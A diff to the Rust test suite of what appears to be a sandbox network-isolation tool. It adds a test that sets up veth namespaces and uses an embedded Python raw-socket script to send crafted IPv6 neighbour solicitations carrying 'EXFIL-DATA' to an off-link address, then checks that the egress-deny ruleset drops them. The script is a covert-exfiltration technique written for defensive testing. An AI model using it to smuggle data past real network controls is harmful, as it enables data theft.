@@ -279,6 +279,8 @@ mod tests {
         let plan = compile(&d, &Host::reference(), &CompileOptions::default()).unwrap();
         let rt = Runtime {
             host_addresses: vec!["198.19.255.1".parse().unwrap(), "fd00::1".parse().unwrap()],
+            link_broadcasts: vec!["198.19.255.3".parse().unwrap()],
+            on_link_v6: vec!["fdac:0:1::/64".parse().unwrap()],
             ..Default::default()
         };
         let ns = Netns::new("accept");
@@ -310,6 +312,172 @@ mod tests {
         assert!(listed.contains("egress-drop"));
         // The host's own namespace is untouched.
         let host = nft_in(Path::new("/proc/self/ns/net"), &["list", "tables"], None).unwrap();
-        assert!(!host.contains("table inet agentcell"), "{host}");
+        // (Its shared guard table, `inet agentcell_host`, is another table.)
+        assert!(
+            !host.lines().any(|l| l.trim() == "table inet agentcell"),
+            "{host}"
+        );
+    }
+
+    fn ip(args: &[&str]) {
+        let ok = Command::new("ip").args(args).status().unwrap().success();
+        assert!(ok, "ip {args:?}");
+    }
+
+    /// Packets counted by the rule commented `tag` in the observer's chain.
+    fn counted(ns: &Netns, tag: &str) -> u64 {
+        let listed = nft_in(&ns.path(), &["list", "chain", "inet", "obs", "pre"], None).unwrap();
+        let line = listed
+            .lines()
+            .find(|l| l.contains(&format!("comment \"{tag}\"")))
+            .unwrap_or_else(|| panic!("{tag} in {listed}"));
+        line.split_whitespace()
+            .skip_while(|w| *w != "packets")
+            .nth(1)
+            .and_then(|n| n.parse().ok())
+            .unwrap_or_else(|| panic!("a count in {line}"))
+    }
+
+    /// Sends crafted neighbour solicitations (with data after the target, as an exfiltrating
+    /// workload with CAP_NET_RAW would) from inside `ns` to each destination.
+    fn solicit(ns: &str, dests: &[&str]) {
+        let script = r#"
+import socket, sys, time
+s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
+s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
+s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
+target = socket.inet_pton(socket.AF_INET6, "fd00:18:99::2")
+ns = bytes([135, 0, 0, 0, 0, 0, 0, 0]) + target + b"EXFIL-DATA-EXFIL-DATA"
+for _ in range(5):
+    for d in sys.argv[1:]:
+        try:
+            s.sendto(ns, (d, 0))
+        except OSError:
+            pass
+    time.sleep(0.2)
+"#;
+        let ok = Command::new("ip")
+            .args(["netns", "exec", ns, "python3", "-c", script])
+            .args(dests)
+            .status()
+            .unwrap()
+            .success();
+        assert!(ok, "sending solicitations");
+    }
+
+    #[test]
+    fn neighbour_solicitations_to_an_off_link_destination_are_dropped() {
+        // SAFETY: geteuid cannot fail.
+        assert_eq!(
+            unsafe { libc::geteuid() },
+            0,
+            "needs root (CI runs as root)"
+        );
+        let (a, b) = (Netns::new("nda"), Netns::new("ndb"));
+        let (va, vb) = (
+            format!("acnda{}", std::process::id() % 100000),
+            format!("acndb{}", std::process::id() % 100000),
+        );
+        ip(&[
+            "link", "add", &va, "netns", &a.0, "type", "veth", "peer", "name", &vb, "netns", &b.0,
+        ]);
+        ip(&[
+            "-n",
+            &a.0,
+            "addr",
+            "add",
+            "fd00:18:99::1/64",
+            "dev",
+            &va,
+            "nodad",
+        ]);
+        ip(&[
+            "-n",
+            &b.0,
+            "addr",
+            "add",
+            "fd00:18:99::2/64",
+            "dev",
+            &vb,
+            "nodad",
+        ]);
+        for (n, v) in [(&a, &va), (&b, &vb)] {
+            ip(&["-n", &n.0, "link", "set", v, "up"]);
+            ip(&["-n", &n.0, "link", "set", "lo", "up"]);
+        }
+        ip(&[
+            "-n",
+            &a.0,
+            "-6",
+            "route",
+            "add",
+            "default",
+            "via",
+            "fd00:18:99::2",
+        ]);
+        // Link-local addresses out of duplicate detection (the kernel's own solicitations use
+        // them).
+        let started = std::time::Instant::now();
+        while [&a, &b].iter().any(|n| {
+            let out = Command::new("ip")
+                .args(["-n", &n.0, "-6", "addr"])
+                .output()
+                .unwrap();
+            String::from_utf8_lossy(&out.stdout).contains("tentative")
+        }) {
+            assert!(
+                started.elapsed().as_secs() < 10,
+                "addresses stayed tentative"
+            );
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+        // The observer counts what arrives, by destination.
+        let obs = r#"{"nftables": [
+            {"add": {"table": {"family": "inet", "name": "obs"}}},
+            {"add": {"chain": {"family": "inet", "table": "obs", "name": "pre", "type": "filter", "hook": "prerouting", "prio": 0, "policy": "accept"}}},
+            {"add": {"rule": {"family": "inet", "table": "obs", "chain": "pre", "comment": "offlink", "expr": [
+                {"match": {"op": "==", "left": {"payload": {"protocol": "ip6", "field": "daddr"}}, "right": "fd00:18:98::5"}},
+                {"match": {"op": "==", "left": {"payload": {"protocol": "icmpv6", "field": "type"}}, "right": "nd-neighbor-solicit"}},
+                {"counter": null}]}}},
+            {"add": {"rule": {"family": "inet", "table": "obs", "chain": "pre", "comment": "solicited", "expr": [
+                {"match": {"op": "==", "left": {"payload": {"protocol": "ip6", "field": "daddr"}}, "right": "ff02::1:ff00:2"}},
+                {"match": {"op": "==", "left": {"payload": {"protocol": "icmpv6", "field": "type"}}, "right": "nd-neighbor-solicit"}},
+                {"counter": null}]}}}
+        ]}"#;
+        nft_json_in(&b.path(), obs).unwrap();
+        let offlink = "fd00:18:98::5".to_string();
+        let solicited = format!("ff02::1:ff00:2%{va}");
+        // Unfenced, the crafted solicitation leaves for the off-link address (the attack works,
+        // so this test can fail).
+        solicit(&a.0, &[&offlink, &solicited]);
+        let before = (counted(&b, "offlink"), counted(&b, "solicited"));
+        assert!(
+            before.0 > 0 && before.1 > 0,
+            "unfenced, both arrive: {before:?}"
+        );
+        // Fenced (egress denied): ND still reaches its link-scoped destination, not the other.
+        let d = parse_with(
+            r#"{"version":"1.0.0","network":{"egress":{"default":"deny"}}}"#,
+            &ParseOptions::default(),
+        )
+        .unwrap();
+        let plan = compile(&d, &Host::reference(), &CompileOptions::default()).unwrap();
+        let rt = Runtime {
+            on_link_v6: vec!["fd00:18:99::/64".parse().unwrap()],
+            ..Default::default()
+        };
+        install_fresh(&a.path(), &nft::ruleset(&plan.network, &rt)).unwrap();
+        solicit(&a.0, &[&offlink, &solicited]);
+        let after = (counted(&b, "offlink"), counted(&b, "solicited"));
+        assert!(
+            after.1 > before.1,
+            "link-scoped ND still goes out: {after:?}"
+        );
+        assert_eq!(
+            after.0, before.0,
+            "an off-link solicitation left the namespace: {after:?}"
+        );
+        let listed = nft_in(&a.path(), &["list", "ruleset"], None).unwrap();
+        assert!(listed.contains("egress-drop"), "{listed}");
     }
 }
